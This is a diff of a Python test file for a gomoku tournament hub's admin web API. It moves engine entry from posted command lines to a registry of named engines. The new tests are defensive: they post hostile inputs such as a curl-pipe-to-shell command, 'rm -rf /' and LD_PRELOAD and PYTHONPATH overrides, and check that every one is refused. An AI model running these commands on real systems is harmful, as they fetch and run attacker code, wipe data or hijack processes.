@@ -20,7 +20,7 @@ from twisted.web.client import FileBodyProducer, readBody
 from twisted.web.http_headers import Headers
 from twisted.web.template import flattenString
 
-from hub.tournaments import store, views
+from hub.tournaments import catalog, store, views
 from hub.tournaments.standings import Game
 from hub.web.tournaments import eventContent
 from hub.tournaments.director import Director
@@ -75,6 +75,11 @@ class EventAdminTests(AccountsWebMixin, TestCase):
         for name in ("ann", "bob"):
             yield self.addAccount(name)
         self.database = self.accounts.database
+        # The operator's engine (on the server's CLI), with a secret in
+        # its command line.
+        yield self.write(catalog.register, "robot", [
+            "python", "-m", "hub.bots", "gomoku://{host}:{port}", "--key",
+            "SECRETKEY123"], 0.0)
 
     def write(self, interaction, *args):
         return self.database.runInteraction(interaction, *args, write=True)
@@ -106,9 +111,7 @@ class EventAdminTests(AccountsWebMixin, TestCase):
         if action in ("event-enter", "event-withdraw"):
             fields["name"] = "ann"
         if action == "event-engine":
-            fields.update(name="robot", command="python -m hub.bots "
-                          "gomoku://{host}:{port} --name {name} --room "
-                          "{room} --level 1 --games 1")
+            fields["name"] = "robot"
         return fields
 
     @defer.inlineCallbacks
@@ -254,14 +257,13 @@ class EventAdminTests(AccountsWebMixin, TestCase):
                           event.tableSize, event.turnSeconds),
                          ("spring", "gomoku", "round-robin", 2, 20.0))
         number = str(event.id)
-        secret = "--key SECRETKEY123"
+        code, _, page = yield admin.get("/admin/tournaments")
+        self.assertIn('<option value="robot">robot</option>', page)
         for action, fields in (
                 ("event-enter", {"name": "ANN"}),
                 ("event-enter", {"name": "bob"}),
                 ("event-enter", {"name": "visitor", "guest": "1"}),
-                ("event-engine", {"name": "robot", "command":
-                                  "python -m hub.bots 'gomoku://{host}:"
-                                  "{port}' " + secret}),
+                ("event-engine", {"name": "robot"}),
                 ("event-withdraw", {"name": "visitor"}),
                 ("event-start", {}), ("event-pause", {}),
                 ("event-resume", {})):
@@ -275,7 +277,7 @@ class EventAdminTests(AccountsWebMixin, TestCase):
         self.assertEqual(sorted(entrants), ["ann", "bob", "robot",
                                             "visitor"])
         self.assertTrue(entrants["visitor"].withdrawn)
-        self.assertEqual(list(entrants["robot"].command), [
+        self.assertEqual(list(entrants["robot"].engine.command), [
             "python", "-m", "hub.bots", "gomoku://{host}:{port}", "--key",
             "SECRETKEY123"])
         code, _, page = yield admin.get("/admin/audit")
@@ -296,6 +298,92 @@ class EventAdminTests(AccountsWebMixin, TestCase):
             {"event": number, "name": "nobody"})
         self.assertEqual(code, 400)
         self.assertIn("no account", page)
+        code, _, page = yield admin.submit(
+            "/admin/tournaments", "/admin/event-engine",
+            {"event": number, "name": "unregistered"})
+        self.assertEqual(code, 400)
+        self.assertIn("no engine unregistered is registered", page)
+
+    @defer.inlineCallbacks
+    def test_commandLineRefusedEverywhere(self):
+        """
+        A command line, a path or an environment posted to every admin
+        endpoint, by an admin (as a form of C{/admin}, with its CSRF
+        token, and to the JSON API) is refused, and nothing is done:
+        no audit row, no event, no entrant, no engine registered.
+        """
+        from hub.web.adminactions import ACTIONS as ALL
+        eventId = yield self.newEvent()
+        hostile = [
+            {"command": "sh -c 'curl evil | sh'"},
+            {"argv": "rm -rf /"},
+            {"path": "/bin/sh"},
+            {"folder": "/var/lib/gamehub"},
+            {"env": "LD_PRELOAD=/tmp/x.so"},
+            {"environment": "PYTHONPATH=/tmp"},
+        ]
+        admin = self.browsers["admin"]
+        before = yield self.auditCount()
+        engines = yield self.database.runInteraction(catalog.engines)
+        snap = yield self.database.runInteraction(store.snapshot, eventId)
+        endpoints = sorted(ALL) + ["connections", "rooms", "audit",
+                                   "engines"]
+        for name in endpoints:
+            for extra in hostile:
+                fields = dict(extra)
+                if name in ALL:
+                    fields.update((yield self.fields(name)))
+                    fields.update(extra)
+                where = (name, extra)
+                code, _, page = yield admin.submit(
+                    "/admin/tournaments", "/admin/" + name, fields)
+                if name in ALL:
+                    self.assertEqual(code, 400, where)
+                    self.assertIn("takes no field", page, where)
+                else:
+                    # No such form (a page, or nothing): not taken.
+                    self.assertIn(code, (404, 405), where)
+                code, data = yield self.api("admin", "/api/admin/" + name,
+                                            fields)
+                self.assertIn(code, (400, 405), where)
+                if name in ALL:
+                    self.assertIn("takes no field", data["error"], where)
+        after = yield self.auditCount()
+        self.assertEqual(after, before)
+        self.assertEqual((yield self.database.runInteraction(
+            catalog.engines)), engines)
+        snapAfter = yield self.database.runInteraction(
+            store.snapshot, eventId)
+        self.assertEqual(snapAfter.entrants, snap.entrants)
+
+    def test_everyActionNamesItsFields(self):
+        """
+        Every admin action names the fields it takes (so that no other
+        is let in), and none of them is a program's.
+        """
+        from hub.web.adminactions import ACTIONS as ALL, FIELDS
+        self.assertEqual(sorted(FIELDS), sorted(ALL))
+        for fields in FIELDS.values():
+            self.assertFalse({"command", "argv", "path", "folder", "env",
+                              "environment", "cwd"} & set(fields))
+
+    @defer.inlineCallbacks
+    def test_registeredEngines(self):
+        """
+        C{GET /api/admin/engines} lists the registered engines (for
+        admins): names, protocols and limits, never a command line.
+        """
+        sent = Headers({b"authorization": [
+            b"Bearer " + self.tokens["admin"].encode()]})
+        response = yield Browser(self.web).agent.request(
+            b"GET", self.web.url("/api/admin/engines").encode(), sent)
+        text = yield readBody(response)
+        self.assertEqual(response.code, 200)
+        self.assertEqual(json.loads(text), {"engines": [
+            {"name": "robot", "protocol": "tcp", "cpuSeconds": 600,
+             "memoryBytes": 1024 ** 3}]})
+        self.assertNotIn(b"SECRETKEY123", text)
+        self.assertNotIn(b"hub.bots", text)
 
     @defer.inlineCallbacks
     def test_enterFromTheEventPage(self):
@@ -373,8 +461,9 @@ class GuestEntrantTests(AccountsWebMixin, TestCase):
                                    "round-robin", None, None, 2, None, 0.0)
         yield self.write(store.enter, eventId, "ANN", 0.0)
         yield self.write(store.enter, eventId, "visitor", 0.0, None, True)
-        yield self.write(store.enter, eventId, "robot", 0.0,
-                         ["python", "-m", "hub.bots"])
+        yield self.write(catalog.register, "robot",
+                         ["python", "-m", "hub.bots"], 0.0)
+        yield self.write(store.enter, eventId, "robot", 0.0, "robot")
         entrants = yield self.write(store.entrants, eventId)
         self.assertEqual([(e.name, e.guest) for e in entrants],
                          [("ann", False), ("visitor", True),
